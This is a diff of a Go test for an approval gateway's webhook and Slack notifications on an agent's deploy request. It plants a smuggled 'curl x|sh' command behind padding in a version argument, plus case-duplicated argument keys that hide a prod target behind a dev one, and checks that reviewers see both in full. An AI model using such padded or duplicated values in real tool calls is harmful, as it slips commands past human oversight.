@@ -5,6 +5,7 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -45,8 +46,11 @@ func TestWebhooks(t *testing.T) {
 	t.Cleanup(func() { <-done })
 
 	r := Request{
-		ID: "R1", Tool: "deploy", Requester: Party{Subject: "agent-<1>"}, Rule: "deploys",
-		Arguments: json.RawMessage(`{"env":"prod"}`),
+		ID: "R1", Tool: "deploy", Requester: Party{Subject: "agent-<1>", Issuer: "https://idp.test", Groups: []string{"agents"}},
+		Rule: "deploys", Message: "deploys need a release manager", PolicyVersion: "sha256:abc",
+		Route: Route{Authority: "tools:8080", Path: "/mcp"}, SessionID: "sess-1",
+		Arguments: json.RawMessage(`{"env":"prod","version":` + strconvQuote(padded) + `}`),
+		Params:    json.RawMessage(`{"Arguments":{"env":"dev"},"arguments":{"env":"prod","version":` + strconvQuote(padded) + `},"name":"deploy"}`),
 	}
 	w.Notify(r)
 	require.Eventually(t, func() bool {
@@ -57,10 +61,24 @@ func TestWebhooks(t *testing.T) {
 	defer mu.Unlock()
 	require.Len(t, bodies, 2, "both formats delivered after retries")
 	require.Equal(t, "https://gw.example/approvals#R1", bodies[0]["approve_url"])
-	require.Equal(t, "deploy", bodies[0]["approval"].(map[string]any)["tool"])
+	a := bodies[0]["approval"].(map[string]any)
+	require.Equal(t, "deploy", a["tool"])
+	require.Equal(t, "deploys need a release manager", a["message"])
+	require.Equal(t, "sha256:abc", a["policy_version"])
+	require.Equal(t, "sess-1", a["session_id"])
+	require.Equal(t, []any{"agents"}, a["requester"].(map[string]any)["groups"])
+	require.Equal(t, padded, a["params"].(map[string]any)["arguments"].(map[string]any)["version"], "complete, never cut")
+	require.Len(t, a["fields"], 4)
 	require.Contains(t, bodies[1]["text"], "https://gw.example/approvals#R1")
 	require.Contains(t, bodies[1]["text"], "agent-&lt;1&gt;")
-	require.Len(t, bodies[1]["blocks"], 3)
+	slack, err := json.Marshal(bodies[1]["blocks"])
+	require.NoError(t, err)
+	for _, want := range []string{
+		"deploys need a release manager", "params.arguments.version = 1.4.2␠×600&& curl x|sh",
+		"params.Arguments.env = dev", "tools:8080/mcp", "sess-1", "sha256:abc", "https://idp.test",
+	} {
+		require.Contains(t, strings.ReplaceAll(string(slack), `\u0026`, "&"), slackEscape(want))
+	}
 	require.InDelta(t, 2.0, counter(t, reg, "mcpguard_approvals_notifications_total", "sent"), 1e-9)
 }
 
